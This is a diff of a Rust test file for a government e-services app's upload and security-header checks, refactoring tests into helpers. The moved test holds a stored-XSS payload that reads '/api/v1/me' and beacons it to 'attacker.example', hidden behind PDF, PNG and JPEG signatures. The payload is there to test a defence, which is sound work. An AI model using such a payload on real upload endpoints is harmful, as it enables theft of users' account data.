@@ -162,7 +162,11 @@ async fn error_pages_and_problems_carry_the_security_headers_and_hsts_only_over_
     );
     assert_hardened(&res, "login page");
 
-    // Behind an https PUBLIC_URL, every response asks for https next time.
+    behind_https_every_response_asks_for_https_next_time().await;
+}
+
+/// Behind an https PUBLIC_URL, every response asks for https next time.
+async fn behind_https_every_response_asks_for_https_next_time() {
     let https = TestApp::spawn_with(TestOptions {
         env: vec![("PUBLIC_URL", "https://dichvucong.test".to_owned())],
         ..TestOptions::default()
@@ -188,6 +192,7 @@ async fn error_pages_and_problems_carry_the_security_headers_and_hsts_only_over_
 
 const WARD: &str = "000.21.11.H29";
 
+/// The applicant attaches a file to `dossier`.
 async fn upload(
     app: &TestApp,
     dossier: &str,
@@ -207,6 +212,7 @@ async fn upload(
         .expect("upload")
 }
 
+/// How many files the app keeps on disk.
 fn stored_files(app: &TestApp) -> usize {
     fn walk(dir: &std::path::Path) -> usize {
         std::fs::read_dir(dir).map_or(0, |entries| {
@@ -225,7 +231,7 @@ fn stored_files(app: &TestApp) -> usize {
 #[tokio::test]
 async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sandboxed() {
     let app = TestApp::spawn().await;
-    let citizen = crate::dossiers::signed_in(&app, 131).await;
+    let citizen = app.signed_in_citizen(131).await;
     let res = app
         .post_json(
             "/api/v1/dossiers",
@@ -242,42 +248,8 @@ async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sand
     let dossier: Value = res.json().await.expect("json");
     let id = dossier["id"].as_str().expect("id").to_owned();
 
-    let script = "<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script></body></html>";
     let png = eservices::domain::file_kind::png_skeleton(1, 1);
-    for (name, content_type, bytes) in [
-        // A plain HTML page declared as a PDF.
-        ("giay-to.pdf", "application/pdf", script.as_bytes().to_vec()),
-        // The same page behind a PDF header (the old first-bytes check took it).
-        (
-            "giay-to.pdf",
-            "application/pdf",
-            format!("%PDF-1.4\n{script}\n").into_bytes(),
-        ),
-        // Behind a PNG signature, and behind a JPEG start marker.
-        (
-            "anh.png",
-            "image/png",
-            [&png[..8], script.as_bytes()].concat(),
-        ),
-        (
-            "anh.jpg",
-            "image/jpeg",
-            [&[0xFF_u8, 0xD8, 0xFF, 0xE0][..], script.as_bytes()].concat(),
-        ),
-    ] {
-        let res = upload(&app, &id, name, content_type, bytes).await;
-        assert_eq!(res.status(), 422, "{name} {content_type}");
-        assert_eq!(res.headers()["content-type"], "application/problem+json");
-        let problem: Value = res.json().await.expect("problem");
-        assert_eq!(problem["code"], "file_content_invalid");
-        assert!(
-            problem["detail"]
-                .as_str()
-                .expect("detail")
-                .starts_with("Nội dung tệp không phải là"),
-            "{problem}"
-        );
-    }
+    a_script_is_refused_whatever_it_claims_to_be(&app, &id, &png).await;
     assert_eq!(
         app.count("SELECT count(*) AS n FROM dossier_files").await,
         0,
@@ -309,7 +281,51 @@ async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sand
     assert_sandboxed_download(&res, "application/pdf");
     assert_eq!(res.bytes().await.expect("bytes").to_vec(), real);
 
-    // The same for civil servants (the staff API).
+    the_staff_api_serves_it_sandboxed_too(&app, &id, file["id"].as_str().expect("id")).await;
+}
+
+/// An HTML page with a script, declared as a PDF, PNG or JPEG (behind their
+/// first bytes or not): refused as invalid content.
+async fn a_script_is_refused_whatever_it_claims_to_be(app: &TestApp, id: &str, png: &[u8]) {
+    let script = "<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script></body></html>";
+    for (name, content_type, bytes) in [
+        // A plain HTML page declared as a PDF.
+        ("giay-to.pdf", "application/pdf", script.as_bytes().to_vec()),
+        // The same page behind a PDF header (the old first-bytes check took it).
+        (
+            "giay-to.pdf",
+            "application/pdf",
+            format!("%PDF-1.4\n{script}\n").into_bytes(),
+        ),
+        // Behind a PNG signature, and behind a JPEG start marker.
+        (
+            "anh.png",
+            "image/png",
+            [&png[..8], script.as_bytes()].concat(),
+        ),
+        (
+            "anh.jpg",
+            "image/jpeg",
+            [&[0xFF_u8, 0xD8, 0xFF, 0xE0][..], script.as_bytes()].concat(),
+        ),
+    ] {
+        let res = upload(app, id, name, content_type, bytes).await;
+        assert_eq!(res.status(), 422, "{name} {content_type}");
+        assert_eq!(res.headers()["content-type"], "application/problem+json");
+        let problem: Value = res.json().await.expect("problem");
+        assert_eq!(problem["code"], "file_content_invalid");
+        assert!(
+            problem["detail"]
+                .as_str()
+                .expect("detail")
+                .starts_with("Nội dung tệp không phải là"),
+            "{problem}"
+        );
+    }
+}
+
+/// The same for civil servants (the staff API), once dossier `id` is filed.
+async fn the_staff_api_serves_it_sandboxed_too(app: &TestApp, id: &str, file_id: &str) {
     let res = app
         .client
         .post(app.url(&format!("/api/v1/dossiers/{id}/submit")))
@@ -317,12 +333,11 @@ async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sand
         .await
         .expect("submit");
     assert_eq!(res.status(), 200);
-    let token = crate::dossiers::staff_token(&app, "hd.tn-file", WARD, "receiver").await;
+    let token = crate::dossiers::staff_token(app, "hd.tn-file", WARD, "receiver").await;
     let res = app
         .client
         .get(app.url(&format!(
-            "/api/v1/staff/dossiers/{id}/attachments/{}",
-            file["id"].as_str().expect("id")
+            "/api/v1/staff/dossiers/{id}/attachments/{file_id}"
         )))
         .bearer_auth(&token)
         .send()
@@ -332,6 +347,7 @@ async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sand
     assert_sandboxed_download(&res, "application/pdf");
 }
 
+/// A file answer is a download that cannot run anything.
 pub fn assert_sandboxed_download(res: &reqwest::Response, content_type: &str) {
     let h = res.headers();
     assert_eq!(h["content-type"], content_type);
